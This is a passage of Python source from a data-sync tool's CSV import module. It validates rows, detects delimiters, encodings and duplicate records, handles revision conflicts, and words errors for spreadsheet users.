        self.sat, self.topic = sat, topic
        self.again = again  # rows without a key are made even when equal to a record
        self.given: set[str] = set()  # the keys made for rows without one
        # the records there are, by their values in every field (read once, when a row
        # without a key is first compared: :meth:`equal`)
        self.values: dict[tuple[str, ...], str] | None = None
        model = sat.project.model(topic) if sat.project.has(topic) else None
        self.names = sorted(model.field_names()) if model is not None else []
        self.defaults = model.defaults() if model is not None else {}
        self.is_int = model is not None and model.key == "int"
        self.next = 0  # the next int key (0: not read yet)
        self.floor = floor
        self.top = 0  # the greatest int key among the file's keys (saw)
        self.named: set[int] = set()  # the file's int keys (saw), within 64 bits
        self.taken = taken or set()  # the first pass's named: new keys leave them out

    def saw(self, key: str) -> None:
        """A key the file names."""
        if self.is_int and key.isascii() and key.isdigit():
            self.top = max(self.top, int(key))
            if int(key) <= MAX_INT:
                self.named.add(int(key))

    def __call__(self) -> str:
        if not self.is_int:
            key = self.sat.new_key(self.topic)
        else:
            if not self.next:
                # one above every key known and the file's: the file's keys, as the new
                # key, leave out those at the top of the 64-bit range (Satellite.new_key;
                # wire review 13: a file naming 2**63 - 1 made every new row's key pass it)
                self.next = int(self.sat.new_key(self.topic, taken=self.taken or (
                    [self.floor] if 0 < self.floor <= MAX_INT else [])))
            self.next += 1
            key = str(self.next - 1)
        self.given.add(key)
        return key

    def equal(self, arg: Mapping[str, Any]) -> str | None:
        """The key of a record (as the user sees it, pending edits included) that is the
        record the row's ``arg`` would make, in every field of the topic: a column's cell
        (an empty one equal to an empty or absent value), and for a field the file has no
        column for, its default or nothing; or ``None``. Such a row without a key is one an
        earlier import of the same sheet made a record of (user review 12: importing a sheet
        twice made its new rows twice). Only a whole record counts (user review 13: a new
        sighting "Red fox, 4" typed in a sheet of two columns was skipped as equal to an
        older record that has an observer, a date and a site the row does not give). Read
        before this import queues anything, so rows of this file do not count (two equal new
        rows in one file make two records)."""
        if self.again:
            return None
        names = self.names
        if self.values is None:
            self.values = {}
            for rv in self.sat.records(self.topic):
                if rv.fields is not None:
                    self.values.setdefault(_digest(rv.fields, names), rv.key)
        made = {**self.defaults, **{k: v for k, v in arg.items() if v is not None}}
        return self.values.get(_digest(made, names))


def _digest(values: Mapping[str, Any], names: Sequence[str]) -> tuple[str, ...]:
    """``values`` of ``names`` as comparable text (an empty value as none)."""
    return tuple(json.dumps(None if (v := values.get(n)) == "" else v, sort_keys=True,
                            default=str) for n in names)


@dataclass
class _Counts:
    """What the check of a CSV found (its first pass)."""

    unchanged: int = 0   # rows equal to the record: nothing to send
    overwrites: int = 0  # changes to existing records without a _rev column
    no_zone: int = 0      # date-time cells without a zone (read as UTC: said)
    no_zone_eg: tuple[int, str, str] | None = None  # the first: line, column, text
    sheet_cells: int = 0  # cells such as '=SUM(A1) of a plain import (an --for-spreadsheet file?)
    sheet_eg: str = ""    # the first of them
    # cells of a file with _rev still holding the exported value of a field changed since
    # (the newer value is kept): (line, topic, key, fields) of the first _MOST_LINES rows
    kept: list[tuple[int, str, str, tuple[str, ...]]] = field(default_factory=list)
    kept_rows: int = 0
    # cells of a row of a file from a satellite further on (_rev after this replica's) with
    # the value from before this replica's own edit not yet at the hub (pending): the
    # edit is kept (user review 13: the sheet undid it): (line, topic, key,
    # fields) of the first _MOST_LINES rows
    own: list[tuple[int, str, str, tuple[str, ...]]] = field(default_factory=list)
    own_rows: int = 0
    # cells of such a row with a value other than both this replica's pending edit and the
    # value before it (review muser13: sent, the edit was overwritten and then folded away):
    # a colleague's change this replica has not received, or the sheet's user's; the
    # edit is kept, the cell not sent: (line, topic, key, {field: the sheet's value}) of
    # the first _MOST_LINES rows
    own_differs: list[tuple[int, str, str, dict[str, Any]]] = field(default_factory=list)
    own_differs_rows: int = 0
    # rows of a file from a satellite further on whose record this replica has not received
    # yet (skipped: sync, then import again): (line, topic, key) of the first _MOST_LINES
    not_received: list[tuple[int, str, str]] = field(default_factory=list)
    unreceived_rows: int = 0
    # unchanged rows of a file with _rev whose record was deleted since (skipped): (line,
    # topic, key, "by bob") of the first _MOST_LINES
    dropped: list[tuple[int, str, str, str]] = field(default_factory=list)
    dropped_rows: int = 0
    # rows of a file with _rev whose key was not in the export (a new record): (line, topic,
    # key) of the first _MOST_LINES
    new_keys: list[tuple[int, str, str]] = field(default_factory=list)
    new_key_rows: int = 0
    # rows without a key equal to a record that exists (skipped: made by an earlier import
    # of the sheet?): (line, topic, the record's key) of the first _MOST_LINES
    repeats: list[tuple[int, str, str]] = field(default_factory=list)
    repeat_rows: int = 0
    # the lines of all of them (for the app's "Make them anyway": only those lines again)
    repeat_at: list[int] = field(default_factory=list)
    fresh: int = 0  # rows without a key that make a new record (not repeats)
    # rows whose _rev is after this replica's revision (exported on a satellite that synced
    # later): compared with the records now and sent on ahead_of; ahead_rev the latest _rev
    ahead_rows: int = 0
    ahead_rev: Rev | None = None
    ahead_of: Rev | None = None
    # the bad rows: (line, what is wrong) of the first _MOST_ERRORS, and how many there are
    errors: list[tuple[int, str]] = field(default_factory=list)
    bad_rows: int = 0
    # their bad cells, by line (column, what is wrong, the fix): a fix many rows share is
    # said once per column (error_text)
    cells: dict[int, list[tuple[str | None, str, str]]] = field(default_factory=dict)

    def bad(self, line: int, text: str,
            cells: list[tuple[str | None, str, str]] | None = None) -> None:
        self.bad_rows += 1
        if len(self.errors) < 2 * _MOST_ERRORS:  # a chunk's lines may come out of order
            self.errors.append((line, text))
            if cells:
                self.cells[line] = cells

    def error_text(self, file: str) -> str:
        """Every bad row (the first :data:`_MOST_ERRORS` by line, then a count): one row
        alone in the words of before, several a line each."""
        errs = sorted(self.errors)[:_MOST_ERRORS]
        if self.bad_rows == 1:
            return _line_error(file, *errs[0])
        # a fix shared by several rows' cells of one column: said once, after the lines
        # (user review 12: "set the column's format…" on every row of a sheet)
        shared: dict[tuple[str, str], int] = {}
        for line, _ in errs:
            for col, _, advice in self.cells.get(line, ()):
                if col is not None and advice:
                    shared[(col, advice)] = shared.get((col, advice), 0) + 1
        shared = {k: n for k, n in shared.items() if n > 1}

        def said(line: int, text: str) -> str:
            if line not in self.cells or not shared:
                return text
            return "; ".join(short + ("" if (col, advice) in shared or not advice
                                      else f": {advice}")
                             for col, short, advice in self.cells[line])

        return (f"{file}: {self.bad_rows:,} rows cannot be imported, so nothing was "
                "imported; fix them and import the file again:\n"
                + "\n".join(_line_error("", line, said(line, t)).lstrip() for line, t in errs)
                + "".join(f"\ncolumn {col} ({n:,} rows above): {advice}"
                          for (col, advice), n in shared.items())
                + (f"\nand {self.bad_rows - len(errs):,} more"
                   if self.bad_rows > len(errs) else ""))

    def drop(self, line: int, top: str, key: str, who: str) -> None:
        self.dropped_rows += 1
        if len(self.dropped) < _MOST_LINES:
            self.dropped.append((line, top, key, who))

    def new_key(self, line: int, top: str, key: str) -> None:
        self.new_key_rows += 1
        if len(self.new_keys) < _MOST_LINES:
            self.new_keys.append((line, top, key))

    def unreceived(self, line: int, top: str, key: str) -> None:
        self.unreceived_rows += 1
        if len(self.not_received) < _MOST_LINES:
            self.not_received.append((line, top, key))

    def keep_own(self, line: int, top: str, key: str, fields: Sequence[str]) -> None:
        self.own_rows += 1
        if len(self.own) < _MOST_LINES:
            self.own.append((line, top, key, tuple(fields)))

    def keep_own_differs(self, line: int, top: str, key: str, cells: dict[str, Any]) -> None:
        self.own_differs_rows += 1
        if len(self.own_differs) < _MOST_LINES:
            self.own_differs.append((line, top, key, dict(cells)))

    def repeat(self, line: int, top: str, key: str) -> None:
        self.repeat_rows += 1
        self.repeat_at.append(line)
        if len(self.repeats) < _MOST_LINES:
            self.repeats.append((line, top, key))

    def keep(self, line: int, top: str, key: str, fields: Sequence[str]) -> None:
        self.kept_rows += 1
        if len(self.kept) < _MOST_LINES:
            self.kept.append((line, top, key, tuple(fields)))


def _import_failed(exc: OutpostError, where: str) -> OutpostError:
    """The error of an import that stopped: nothing was queued (``Satellite.pub_many``
    queues the whole file in one commit)."""
    if isinstance(exc, StorageError):
        if str(exc).startswith(_NOT_QUEUED):
            return exc  # said so already (a read of the second pass failed)
        # the satellite's database failed (a full disk): not the file's fault, so no line
        # range, and said once that nothing was imported (the storage error's own "nothing
        # was applied" is the same fact)
        why = (str(exc).replace(", then retry; nothing was applied", "")
               .replace("; nothing was applied", "").replace("nothing was applied; ", "")
               .replace("move the ledger to", "move the data directory to"))  # a satellite
        again = "once there is room" if "full" in why.lower() else "once that is fixed"
        return StorageError(f"{_NOT_QUEUED}: {why}. The file's rows are fine "
                            "(every one was checked); nothing was imported (an import is "
                            f"queued whole or not at all): run the import again {again}")
    return ValidationError(f"{where}{exc}: {_IMPORT_AGAIN}")


_NOT_QUEUED = "the import could not be queued"
_IMPORT_AGAIN = ("nothing was imported (an import is queued whole or not at all); fix it and "
                 "run the import again")


def _open_csv(file: str) -> io.BufferedReader:
    """The CSV file opened for reading (binary: :func:`_csv_chunks` decodes it). A pipe
    (``/dev/stdin``, ``<(...)``) is copied to a temporary file first: the import reads the
    file twice."""
    try:
        f = open(file, "rb")  # noqa: SIM115 (returned to a with block)
        if f.seekable():
            return f
        with f:
            spool = tempfile.TemporaryFile()  # noqa: SIM115
            shutil.copyfileobj(f, spool)
            spool.seek(0)
            return cast(io.BufferedReader, spool)
    except OSError as exc:
        raise ConfigError(f"cannot read {file}: {exc.strerror or exc}: check the path") from exc


def _stamp(f: io.BufferedReader) -> tuple[int, int, int]:
    """What changes when the open file is written: its size, mtime and ctime."""
    st = os.fstat(f.fileno())
    return st.st_size, st.st_mtime_ns, st.st_ctime_ns


def _csv_chunks(sat: Satellite, topic: str, file: str, f: io.BufferedReader,
                counts: _Counts, check: bool, keys: _NewKeys | None = None,
                sheet: bool = False, lines: Collection[int] | None = None
                ) -> Iterator[list[_Row]]:
    """The CSV's rows as actions, each with its first line number, checked (a header naming
    fields, one value per column, valid values, one row per key), in chunks of at most
    ``IMPORT_BATCH`` rows: the file is read from its start as it goes, and only the keys seen
    so far are kept.

    Each chunk's records are looked up in one read (:func:`_csv_actions`: ``new``, or ``mod``
    of the fields that differ, or nothing). ``check`` (the first pass): the actions are
    checked against the schema too, and ``counts`` counts; else (the second pass, which
    queues them) ``Satellite.pub`` checks them. ``sheet``: the file is from ``outpost export
    --for-spreadsheet`` (:func:`from_sheet` of every cell). ``lines``: only the rows that
    start on these lines (the others are not read further).

    Raises:
        ConfigError: the file cannot be read.
        ValidationError: a bad header or row (named by its line), or text that is not UTF-8.
    """
    model = sat.project.model(topic)
    keys = keys or _NewKeys(sat, topic)
    # a cell as long as one transaction may hold (Python's default of 131,072 characters
    # refused what `outpost export` writes of a long note); a longer one is named below
    csv.field_size_limit(CELL_LIMIT)
    f.seek(0)
    # utf-8-sig: spreadsheets write a byte-order mark before the header
    text = io.TextIOWrapper(f, encoding="utf-8-sig", newline="")
    parsed: list[tuple[int, str, dict[str, Any], Rev | None]] = []  # not yet actions
    seen: dict[str, int] = {}
    try:
        # the delimiter from the header: a comma, or the semicolon a spreadsheet writes in a
        # locale whose decimal mark is a comma (de-CH, fr-CH, de-DE...), or a tab
        first = text.readline()
        # Excel's first line "sep=;" names the delimiter (review 16: refused as a column)
        sep = _SEP_LINE.fullmatch(first.rstrip("\r\n"))
        delimiter = sep[1] if sep else _delimiter(first)
        # a decimal comma (46,397) where the comma is not the delimiter (:func:`_sheet_text`)
        comma = delimiter if delimiter in (";", "\t") else ""
        took: list[str] = []  # the lines of the row being read (to check its quotes)

        def lines_in() -> Iterator[str]:
            keep = took.append
            for ln in itertools.chain([first] if first else [], text):
                keep(ln)
                yield ln

        reader = csv.reader(lines_in(), delimiter=delimiter)
        header = next(reader, None)
        if sep:
            header = next(reader, None)  # the header is on the next line
        if header is None:
            raise ValidationError(f"{file} is empty: expected a header line such as "
                                  f"key,{','.join(model.field_names())}")
        cols = [h.strip() for h in header]
        fields = _csv_columns(file, topic, model, cols)
        key_at = cols.index("key") if "key" in cols else -1
        stamps = [(i, f) for i, f in enumerate(fields)
                  if f is not None and f is not _UNNAMED and f is not _REV
                  and f.type == "datetime"]
        while True:
            line = reader.line_num + 1
            took.clear()
            row = next(reader, None)
            if row is None:
                break
            if not row:
                continue  # a blank line
            if reader.line_num > line and _unclosed(took, delimiter):
                # a quote opened in the last column and never closed took every later
                # line into that one value, as many values as the header (review 16)
                raise ValidationError(_line_error(file, line, _UNCLOSED.format(
                    first=line, last=reader.line_num)))
            if lines is not None and line not in lines:
                continue
            if sheet:
                row = [from_sheet(v) for v in row]
            elif check:
                for v in row:  # a cell `export --for-spreadsheet` wrote: said in the summary
                    if v[:1] == "'" and v[1:2] in _FORMULA:
                        counts.sheet_cells += 1
                        counts.sheet_eg = counts.sheet_eg or v
            if check and stamps:
                for i, f in stamps:
                    if i < len(row) and row[i].strip() and not says_zone(row[i]):
                        counts.no_zone += 1
                        counts.no_zone_eg = counts.no_zone_eg or (line, f.name, row[i])
            if len(row) > len(cols) and not any(v.strip() for v in row[len(cols):]):
                row = row[:len(cols)]  # empty cells after the last column (a trailing comma)
            try:
                if len(row) != len(cols):
                    if reader.line_num > line and len(row) < len(cols):
                        # the row ran over several lines: a quote opened and never closed
                        # took the line breaks (and the rows after it) into one value
                        raise ValidationError(_UNCLOSED.format(first=line,
                                                               last=reader.line_num))
                    raise ValidationError(
                        f"{len(row)} values, but the header has {len(cols)} columns: one "
                        "value per column (empty for none)")
                parsed.append((line, *_csv_row(sat, topic, model, fields, key_at, row, seen,
                                               line, keys, comma)))
            except OutpostError as exc:
                if not check:
                    raise ValidationError(_line_error(file, line, str(exc))) from exc
                # every bad row is said, at the end of the check
                counts.bad(line, str(exc), getattr(exc, "cells", None))
            if len(parsed) >= IMPORT_BATCH:
                yield _csv_actions(sat, model, file, parsed, counts, check, keys)
                parsed = []
    except csv.Error as exc:
        if "field larger than field limit" in str(exc):
            raise ValidationError(
                f"{file} line {reader.line_num}: a cell is over {CELL_LIMIT:,} characters, "
                f"more than one transaction may hold ({MAX_TRANS_BYTES // 1024} KiB "
                "encoded): shorten it") from exc
        raise ValidationError(f"{file} line {reader.line_num}: {exc}") from exc
    except UnicodeDecodeError as exc:
        bad_line, why = _bad_utf8(f)
        raise ValidationError(f"{file} line {bad_line} is not UTF-8 "
                              f"text ({why or exc.reason}): save the file as CSV UTF-8") from exc
    except OSError as exc:
        raise ConfigError(f"cannot read {file}: {exc.strerror or exc}: check the path") from exc
    finally:
        text.detach()  # the file stays open for the next pass
    if parsed:
        yield _csv_actions(sat, model, file, parsed, counts, check, keys)
    if check and counts.errors:
        raise ValidationError(counts.error_text(file))


_UNCLOSED = ("a value opens a quote (\") that is not closed, so lines {first}-{last} were "
             "read as one row: close the quote, or double a quote inside a quoted value "
             "(\"\")")


def _unclosed(lines: list[str], delimiter: str) -> bool:
    """Whether the CSV text ``lines`` (one row the reader took over several lines) ends
    inside a quoted value: the reader, not strict, ends such a value at the end of the
    file without a word (strict, it also refuses text after a closing quote, which files
    in use have)."""
    try:
        for _ in csv.reader(lines, delimiter=delimiter, strict=True):
            pass
    except csv.Error as exc:
        return "unexpected end of data" in str(exc)
    return False


_SEP_LINE = re.compile(r'"?sep=([,;\t|])"?', re.IGNORECASE)
"""The first line Excel reads (and writes, for a locale's delimiter) to name a CSV's one."""


def _delimiter(header: str) -> str:
    """The delimiter of a CSV from its header line: the one of ``,`` ``;`` and tab it holds
    most of outside quotes (a comma when none)."""
    bare = re.sub(r'"[^"]*"', "", header)
    counts = {d: bare.count(d) for d in (",", ";", "\t")}
    best = max(counts, key=lambda d: counts[d])
    return best if counts[best] > counts[","] else ","


def _line_error(file: str, line: int, text: str) -> str:
    """``f.csv line 4, column count: ...`` (a cell) or ``f.csv line 4: ...`` (a row)."""
    return f"{file} line {line}{', ' if text.startswith('column ') else ': '}{text}"


def _bad_utf8(f: io.BufferedReader) -> tuple[int, str]:
    """The first line of ``f`` that is not UTF-8 (its number, why), read from the start."""
    f.seek(0)
    for i, raw in enumerate(f, 1):
        try:
            raw.decode("utf-8")
        except UnicodeDecodeError as exc:
            return i, exc.reason
    return 0, ""


_UNNAMED = object()
"""The field of a column with no name in the header: its values must be empty."""
_REV = object()
"""The field of the ``_rev`` column (``outpost export --rev``): the revision exported at."""
REV_COLUMN = "_rev"


def _csv_columns(file: str, topic: str, model: Any, cols: list[str]) -> list[Any]:
    """The field of each column (None for ``key``, :data:`_UNNAMED` for a column without a
    name)."""
    from core.schema import did_you_mean

    fields: list[Any] = []
    for i, c in enumerate(cols):
        if not c:  # a trailing comma in a spreadsheet's header: a column with no name
            fields.append(_UNNAMED)
            continue
        if cols.index(c) != i:
            raise ValidationError(f"{file}: column {c!r} appears twice in the header")
        if c == "key":
            fields.append(None)
            continue
        if c == REV_COLUMN:
            fields.append(_REV)
            continue
        f = model.field(c)
        if f is None and len(cols) == 1 and (sep := next((d for d in ";\t|" if d in c), "")):
            raise ValidationError(
                f"{file}: the header {c!r} is one column: the file separates values with "
                f"{sep!r}, not commas. Save it as CSV with commas (a spreadsheet's \"CSV "
                "UTF-8 (comma delimited)\")")
        if f is None:
            raise ValidationError(
                f"{file}: column {c!r} is not a field of {topic}"
                f"{did_you_mean(c, model.field_names())}: rename or remove it (the "
                f"fields: key, {', '.join(model.field_names())})")
        fields.append(f)
    return fields


def _csv_row(sat: Satellite, topic: str, model: Any, fields: list[Any], key_at: int,
             row: list[str], seen: dict[str, int], line: int, keys: _NewKeys,
             comma: str = "") -> tuple[str, dict[str, Any], Rev | None]:
    """A row's key (a new one from ``keys`` when empty; kept as is when a record has that
    very key, else cleaned), field values checked by type (``None`` for an empty cell) and
    the revision of its ``_rev`` column (``None``: none)."""
    key = row[key_at] if key_at >= 0 else ""
    if clean_key(key) != key and not _exists(sat, topic, key):
        key = clean_key(key)
    if key:
        key = _canonical(sat, topic, key)  # "002" is the record 2
        if key in seen:
            raise ValidationError(f"key {key!r} is on line {seen[key]} too: one row per record")
        seen[key] = line
        keys.saw(key)
    else:
        absent = _absent_required(model, fields)
        if absent:  # said before the key is made: the key the message named meant nothing
            raise ValidationError(
                f"the key cell is empty, so the row makes a new record, which needs "
                f"{topic}'s required {_names(absent)}, but the file has no "
                f"{_names(absent)} column: add {'it' if len(absent) == 1 else 'them'} to the "
                "header, with a value on each new row")
        key = keys()
    arg: dict[str, Any] = {}
    base: Rev | None = None
    # every bad cell of the row, not only the first (user review 12)
    bad: list[tuple[str | None, str, str]] = []
    for i, (f, text) in enumerate(zip(fields, row, strict=True)):
        if f is None:
            continue
        try:
            if f is _UNNAMED:
                if text.strip():
                    raise ValidationError(f"column {i + 1} has no name in the header but "
                                          f"holds {text!r}: name it in the header or remove it")
                continue
            if f is _REV:
                base = _row_rev(text)
                continue
            # an empty cell of a required field is refused where it makes a new record
            # or clears a value (_csv_actions knows which): one equal to the record's value
            # is unchanged (session 15: a required field added with a default leaves the
            # records made before it empty, and export then import of them was refused)
            arg[f.name] = _cell(f, text, sat, comma)
        except _CellError as exc:
            bad.append((exc.column, exc.short, exc.advice))
        except ValidationError as exc:
            bad.append((None, str(exc), ""))
    if bad:
        raise _RowError(bad)
    return key, arg, base


_CELL_ADVICE = {
    "int": ("a whole number", "write digits, e.g. 3"),
    "float": ("a number", "write digits with a decimal point, e.g. 46.5"),
    "bool": ("true or false", "write true or false (or yes or no, 1 or 0)"),
    "json": ("valid JSON", 'write e.g. {"a": 1}'),
    "date": ("a date", "write year-month-day, e.g. 2026-05-31"),
    "datetime": ("a date and time", "write e.g. 2026-05-01T09:30:00Z (UTC)"),
}


def _sheet_text(f: Any, text: str, comma: str) -> str:
    """A cell as a spreadsheet saves it in its own formats, as the text the field's parser
    reads (user review 12: all of these refused the whole file): a decimal comma ``46,397``
    on a ``float`` field of a ``;``-separated file (``comma``: the file's delimiter, when it
    is not the comma) is ``46.397``; of a tab-separated file too (review 16), unless it may
    be a thousands separator, ``1,234`` (an English spreadsheet's tab file writes 1234 so
    when the cell shows it so): :func:`_cell` refuses it, saying why. The field's parser,
    shared with ``outpost pub`` and the app since session 13, reads the others: a date
    ``21.11.2026`` and a midnight date-time ``2026-11-21 00:00:00``
    (``core.revision.read_date``; ``11/21/2026`` is not read, month/day or day/month?:
    :func:`_cell` says how to set the column's format), a spreadsheet's boolean in German,
    French or Italian (``core.schema.read_bool``)."""
    t = text.strip()
    if f.type == "float" and comma and re.fullmatch(r"[+-]?[0-9]*,[0-9]+", t):
        if comma == "\t" and _GROUPED.fullmatch(t):
            return text
        return t.replace(",", ".")
    return text


_GROUPED = re.compile(r"[+-]?[0-9]{1,3},[0-9]{3}")
"""A number with a comma that may be a decimal comma or a thousands separator."""


def _cell(f: Any, text: str, sat: Satellite, comma: str = "") -> Any:
    """A CSV cell's value for field ``f`` (as :func:`_value`, after :func:`_sheet_text`), or
    a ValidationError in a spreadsheet user's words: ``column count: 'three' is not a whole
    number: write digits, e.g. 3`` (the command line's ``write e.g. count=3`` is `pub`'s
    syntax)."""
    try:
        value = _value(f, _sheet_text(f, text, comma), sat)
        why = f.check_value(value) if value is not None else None
    except ValidationError as exc:
        value, why = None, str(exc)
    if why is None:
        return value
    what, advice = _CELL_ADVICE.get(f.type, (why, ""))
    if f.type == "enum":
        what, advice = "one of the choices", f"write one of: {', '.join(f.values)}"
    elif f.type == "float" and comma == "\t" and _GROUPED.fullmatch(text.strip()):
        t = text.strip()
        advice = (f"its comma may be a decimal comma ({t.replace(',', '.')}) or a thousands "
                  f"separator ({t.replace(',', '')}): write {t.replace(',', '.')} or "
                  f"{t.replace(',', '')}")
    elif f.type == "float" and re.fullmatch(r"[+-]?\d+,\d+", text.strip()):
        advice = f"write a decimal point, not a comma: {text.strip().replace(',', '.')}"
    elif f.type == "json" and "levels deep" in why:
        what, advice = f"JSON nested at most {MAX_NESTING} levels deep", "flatten it"
    elif f.type == "date" and re.fullmatch(r"\d{1,2}/\d{1,2}/\d{2,4}", text.strip()):
        advice = ("a date with slashes may be month/day or day/month: set the column's "
                  "format in the spreadsheet to year-month-day (e.g. 2026-11-21, or "
                  "21.11.2026) and save again")
    elif f.type == "int" and re.fullmatch(r"[+-]?\d+", text.strip()):
        what, advice = "a whole number of 64 bits", "write a smaller number"
    shown = text if len(text) <= 40 else text[:40] + "…"
    raise _CellError(f.name, f"column {f.name}: {shown!r} is not {what}", advice)


class _CellError(ValidationError):
    """A bad cell: its column, what is wrong (``short``) and the fix (``advice``, said once
    per column when many rows share it: :meth:`_Counts.error_text`)."""

    def __init__(self, column: str, short: str, advice: str):
        super().__init__(short + (f": {advice}" if advice else ""))
        self.column, self.short, self.advice = column, short, advice


class _RowError(ValidationError):
    """Every bad cell of a row (``cells``: column or ``None``, what is wrong, the fix)."""

    def __init__(self, cells: list[tuple[str | None, str, str]]):
        super().__init__("; ".join(short + (f": {advice}" if advice else "")
                                   for _, short, advice in cells))
        self.cells = cells


def _absent_required(model: Any, fields: list[Any]) -> list[str]:
    """The required fields (without a default) a new record needs that no column gives."""
    there = {f.name for f in fields if f is not None and f is not _UNNAMED and f is not _REV}
    return [f.name for f in model.fields
            if f.required and f.default is None and f.name not in there]


def cell_text(v: Any) -> str:
    """A cell's value as a line says it: ``'C2'``, ``an empty cell``."""
    if v is None or v == "":
        return "an empty cell"
    t = str(v)
    return repr(t if len(t) <= 40 else t[:40] + "…")


def _names(names: list[str]) -> str:
    """``a``, ``a and b``, ``a, b and c``."""
    return names[0] if len(names) == 1 else f"{', '.join(names[:-1])} and {names[-1]}"


def _row_rev(text: str) -> Rev | None:
    if not text.strip():
        return None
    try:
        return parse_rev(text.strip())
    except ValueError as exc:
        raise ValidationError(
            f"column {REV_COLUMN}: {text!r} is not a revision as an export writes it (e.g. "
            "2026-05-01T09:30:00.123Z; a spreadsheet may have turned it into a date of its "
            "own): leave the column as exported (formatted as text), or export again") from exc


class _Row(NamedTuple):
    """A CSV row as the action it queues."""

    line: int
    act: Action
    base: Rev | None  # its _rev (None: none)
    clash: str = ""  # the change since its _rev it conflicts with, as the replica knows it
    fields: tuple[str, ...] = ()  # the clash's fields (changed on both sides)
    part: bool = False  # the clashing cells of a row whose other cells are queued as usual
    # a transaction of its own: a row whose _rev is after the replica's, sent on the
    # replica's revision (a cell holding a change the replica lacks is a conflict at the
    # hub, which rejects a transaction whole: not the other rows with it)
    alone: bool = False


def _not_garbled(changed: Mapping[str, Any], *records: Mapping[str, Any]) -> None:
    """Refuse a cell that changed only into the record's text read in the wrong encoding:
    ``Zürich`` as ``ZÃ¼rich`` (its UTF-8 bytes read as Windows-1252 or Latin-1, as Excel
    reads a CSV without a byte-order mark; review 16: queued as an edit, and synced to
    everyone). Such a cell is never what someone typed.

    Raises:
        ValidationError: naming the column, the two texts and the fix.
    """
    for k, v in changed.items():
        if type(v) is not str or v.isascii():
            continue
        for rec in records:
            old = rec.get(k)
            if type(old) is str and old != v and v in _misread(old):
                raise ValidationError(
                    f"column {k}: '{_short(v, 80)}' is '{_short(old, 80)}' read in the wrong "
                    "encoding "
                    "(a spreadsheet opened the UTF-8 file as Windows-1252, as Excel does with a "
                    "CSV without a byte-order mark, as exports of older versions were): "
                    "export again (exports now have one) and edit that file, or open the "
                    "file as UTF-8 (Excel: Data → From Text/CSV, File origin 65001: Unicode "
                    "(UTF-8)), or type the value as it should read")


def _misread(text: str) -> set[str]:
    """``text``'s UTF-8 bytes read as Latin-1, and as Windows-1252: the 5 bytes it does not
    map as Excel reads them (U+0081 for 0x81, as Latin-1) or as U+FFFD."""
    raw = text.encode("utf-8", "surrogatepass")
    latin = raw.decode("latin-1")
    win = raw.decode("cp1252", "replace")  # single-byte: one character per byte
    return {latin, win, "".join(w if w != "\ufffd" else c for c, w in zip(latin, win,
                                                                         strict=True))}


def _csv_actions(sat: Satellite, model: Any, file: str,
                 rows: list[tuple[int, str, dict[str, Any], Rev | None]], seen: _Counts,
                 check: bool, keys: _NewKeys | None = None) -> list[_Row]:
    """The rows as actions, their records looked up in one read: ``new`` (its non-empty
    cells) for a record the user does not see, else ``mod`` of the fields whose value
    differs (an empty cell clears one), or nothing when none does. With a ``_rev`` (the
    revision the file was exported at) the values are compared with the record as it was
    then, and the action's base is that revision: a field someone else changed since is a
    conflict, not overwritten. ``check``: each action is checked against the schema; else
    (the pass that queues them) a row that conflicts with a change the replica holds since
    its ``_rev`` says so (:attr:`_Row.clash`): it goes in a transaction of its own. A row
    without a key (``keys`` made it one) equal to a record that exists is skipped
    (:meth:`_NewKeys.equal`)."""
    top, new = model.topic, Cmd.NEW
    there = sat.records_of(top, [key for _, key, _, _ in rows]) if rows else {}
    refs = {f.name for f in model.fields if f.type == "ref"}
    now = sat.rev()
    if any(base is not None and base > now for _, _, _, base in rows):
        # exported on a satellite further on (user review 12: refused on every row, with
        # "sync first", which cannot be done offline): compared with the records as this
        # replica has them and sent on its revision; the hub's base check still makes a
        # cell changed since a conflict. Said once (:meth:`CsvImport.ahead_note`)
        if check:
            revs = [b for *_, b in rows if b is not None and b > now]
            seen.ahead_rows += len(revs)
            seen.ahead_rev = max(revs if seen.ahead_rev is None else [*revs, seen.ahead_rev])
            seen.ahead_of = now
        ahead = {line for line, *_, base in rows if base is not None and base > now}
        rows = [(line, key, arg, now if base is not None and base > now else base)
                for line, key, arg, base in rows]
    else:
        ahead: set[int] = set()
    # the records as of each row's _rev: one read per distinct _rev (a file exported with
    # --rev has one), not one per row (which made an import with _rev ~6x slower)
    by_rev: dict[Rev, list[str]] = {}
    for _, key, _, base in rows:
        if base is not None and base <= now:
            by_rev.setdefault(base, []).append(key)
    then = {(b, k): st for b, keys in by_rev.items()
            for k, st in sat.states_at(top, keys, b).items()}
    slots: list[_Row | None] = []
    # rows with cells that hold the record's value at _rev but not its value now: left
    # alone only where another user changed the field since, asked after the loop in one
    # read per _rev (slots[i] waits for them): (i, line, key, arg, base, changed, maybe)
    later: list[tuple[int, int, str, dict[str, Any], Rev, dict[str, Any], list[str]]] = []
    absent: list[str] | None = None  # required fields no column gives (read when needed)

    def fail(line: int, exc: OutpostError) -> None:
        if not check:
            raise ValidationError(_line_error(file, line, str(exc))) from exc
        seen.bad(line, str(exc))

    for line, key, arg, base in rows:
        rv = there.get(key)
        if keys is not None and key in keys.given:
            if (same := keys.equal(arg)) is not None:
                if check:
                    seen.repeat(line, top, same)
                continue
            if check:
                seen.fresh += 1
        try:
            if rv is None or rv.fields is None:
                if (line in ahead and (base, key) not in then and rv is None
                        and (keys is None or key not in keys.given)):
                    # a row of a file from a satellite further on whose record this replica
                    # has not received yet (user review 13: made "new", said "not in the
                    # export", then a false key clash, doubled by "keep both"): skipped,
                    # said; after a sync the file's _rev is not ahead, and the row is
                    # compared with the export as any other
                    if check:
                        seen.unreceived(line, top, key)
                    continue
                if base is not None and (base, key) in then:
                    was = then[(base, key)]
                    if all(_same(was.get(k), v, k in refs) for k, v in arg.items()):
                        # the row as exported (the user did not touch it): nothing to
                        # send, and no reason to refuse the file for it
                        if check:
                            seen.drop(line, top, key, _deleted_by(sat, top, key, base))
                        continue
                    raise ValidationError(
                        f"record {key!r} was deleted since the file was exported "
                        f"{_deleted_by(sat, top, key, base)}, and the row changes it: remove "
                        "the row, or empty its key to import it as a new record")
                if absent is None:
                    absent = [f.name for f in model.fields if f.required
                              and f.default is None and f.name not in arg]
                if absent:
                    raise ValidationError(
                        f"{top} has no record {key!r}, so the row makes a new one, which "
                        f"needs the required {_names(absent)}, but the file has no "
                        f"{_names(absent)} column: add {'it' if len(absent) == 1 else 'them'}"
                        " to the header, or give the key of an existing record")
                _required_cells(model, arg, "")
                act = Action(top, key, new, {k: v for k, v in arg.items() if v is not None})
                if check:
                    _check_row(sat, act)
                    if base is not None and (keys is None or key not in keys.given):
                        # not in the replica at _rev nor now: a key typed (or edited) in
